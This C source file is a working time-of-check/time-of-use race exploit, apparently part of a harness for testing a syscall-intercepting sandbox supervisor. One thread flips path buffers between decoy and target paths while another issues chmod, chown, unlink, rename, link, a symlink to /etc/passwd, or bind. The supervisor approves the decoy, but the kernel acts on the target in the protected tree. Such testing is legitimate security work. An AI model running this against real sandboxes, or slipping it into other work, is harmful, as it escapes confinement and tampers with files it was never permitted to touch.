/* flip: a path the supervisor checks is not the path the kernel uses.
 *
 * usage: flip OP MS DECOY1 TARGET1 [DECOY2 TARGET2]
 *
 * Thread B rewrites one or two path buffers, over and over, between the DECOYs (outside every
 * virtualized tree, so the supervisor lets the kernel do the call: CONTINUE) and the TARGETs (in
 * the shared tree). Thread A calls OP on the buffers. When the supervisor reads a decoy and the
 * kernel, reading the same memory again after CONTINUE, reads a target, the call changes the
 * shared tree. Each call on a decoy is harmless: the decoys are the attacker's own.
 *
 * A reader that races the rewrite may see a mix of the two paths. Each DECOY must therefore have
 * its TARGET's length and differ from it only in a few leading bytes (its directory mirrors the
 * shared tree's), so that every mix names either of them or nothing that exists.
 *
 * OP, with the buffers as arguments (p1, p2):
 *   truncate chmod chown utimensat setxattr removexattr unlink   on p1, an existing file
 *   rename    rename(p1, p2)
 *   link      link(p1, p2)
 *   mknod mkdir symlink bind                                      create p1
 * Stops after MS milliseconds, MAX_CALLS calls, or as soon as a watched target (TARGETs and their
 * directories) changed on the host. Exit status 0, 2 on a setup failure. */
#include "attack.h"
#include <pthread.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/xattr.h>

#define PATHLEN 108 /* fits sun_path */

static const char *op;
static int npaths;
static char decoy[2][PATHLEN], target[2][PATHLEN];
static struct sockaddr_un sun; /* buf[0] is its sun_path, so that bind can race it too */
static char buf2[PATHLEN];
static char *buf[2] = {sun.sun_path, buf2};
static atomic_int stop;

static void *flipper(void *arg) {
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		for (int i = 0; i < npaths; i++)
			strcpy(buf[i], decoy[i]);
		barrier();
		for (int i = 0; i < npaths; i++)
			strcpy(buf[i], target[i]);
		barrier();
	}
	return NULL;
}

static int creates(void) {
	return !strcmp(op, "mknod") || !strcmp(op, "mkdir") || !strcmp(op, "symlink") || !strcmp(op, "bind");
}

/* reset puts the decoys back as the next call needs them: the first one there (or, for the calls
 * that create it, gone), the second one gone. Only decoy paths, never the flipping buffers. */
static void reset(void) {
	if (creates()) {
		if (unlink(decoy[0]) < 0)
			rmdir(decoy[0]);
	} else if (access(decoy[0], F_OK) < 0) {
		int fd = open(decoy[0], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
		if (fd < 0)
			die(decoy[0]);
		write(fd, "decoy\n", 6);
		close(fd);
	}
	if (npaths > 1)
		unlink(decoy[1]);
}

static long call(void) {
	if (!strcmp(op, "truncate"))
		return truncate(buf[0], 0);
	if (!strcmp(op, "chmod"))
		return chmod(buf[0], 0777);
	if (!strcmp(op, "chown"))
		return chown(buf[0], 65534, 65534);
	if (!strcmp(op, "utimensat"))
		return utimensat(AT_FDCWD, buf[0], NULL, 0);
	if (!strcmp(op, "setxattr"))
		return setxattr(buf[0], "user.evil", "1", 1, 0);
	if (!strcmp(op, "removexattr"))
		return removexattr(buf[0], "user.x");
	if (!strcmp(op, "unlink"))
		return unlink(buf[0]);
	if (!strcmp(op, "rename"))
		return rename(buf[0], buf[1]);
	if (!strcmp(op, "link"))
		return link(buf[0], buf[1]);
	if (!strcmp(op, "mknod"))
		return mknod(buf[0], S_IFREG | 0644, 0);
	if (!strcmp(op, "mkdir"))
		return mkdir(buf[0], 0755);
	if (!strcmp(op, "symlink"))
		return symlink("/etc/passwd", buf[0]);
	if (!strcmp(op, "bind")) {
		int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
		if (s < 0)
			die("socket");
		long ret = bind(s, (struct sockaddr *)&sun, sizeof sun);
		int saved = errno;
		close(s);
		errno = saved;
		return ret;
	}
	fprintf(stderr, "flip: unknown op %s\n", op);
	exit(2);
}

int main(int argc, char **argv) {
	if (argc != 5 && argc != 7) {
		fprintf(stderr, "usage: flip OP MS DECOY1 TARGET1 [DECOY2 TARGET2]\n");
		return 2;
	}
	op = argv[1];
	struct budget b = budget_from(argv[2]);
	npaths = (argc - 3) / 2;
	struct watch w = {0};
	for (int i = 0; i < npaths; i++) {
		if (strlen(argv[3 + 2 * i]) >= PATHLEN || strlen(argv[4 + 2 * i]) >= PATHLEN) {
			fprintf(stderr, "flip: paths must be shorter than %d bytes\n", PATHLEN);
			return 2;
		}
		if (strlen(argv[3 + 2 * i]) != strlen(argv[4 + 2 * i])) {
			fprintf(stderr, "flip: %s and %s differ in length\n", argv[3 + 2 * i], argv[4 + 2 * i]);
			return 2;
		}
		strcpy(decoy[i], argv[3 + 2 * i]);
		strcpy(target[i], argv[4 + 2 * i]);
		strcpy(buf[i], decoy[i]);
		watch_path(&w, target[i]);
	}
	sun.sun_family = AF_UNIX;
	reset();

	pthread_t th;
	if (pthread_create(&th, NULL, flipper, NULL) != 0)
		die("pthread_create");
	struct tally t = {0};
	const char *landed = NULL;
	long calls = 0;
	while (!landed && budget_left(&b, calls)) {
		long ret = call();
		tally_add(&t, ret);
		calls++;
		if (ret == 0)
			reset();
		if (calls % 16 == 0)
			landed = watch_changed(&w);
	}
	if (!landed)
		landed = watch_changed(&w);
	atomic_store(&stop, 1);
	pthread_join(th, NULL);
	report(op, landed, calls, &b);
	tally_print(&t);
	reset();
	if (creates() || npaths > 1) /* leave no decoy behind, but keep the test's own files */
		unlink(decoy[0]);
	return 0;
}
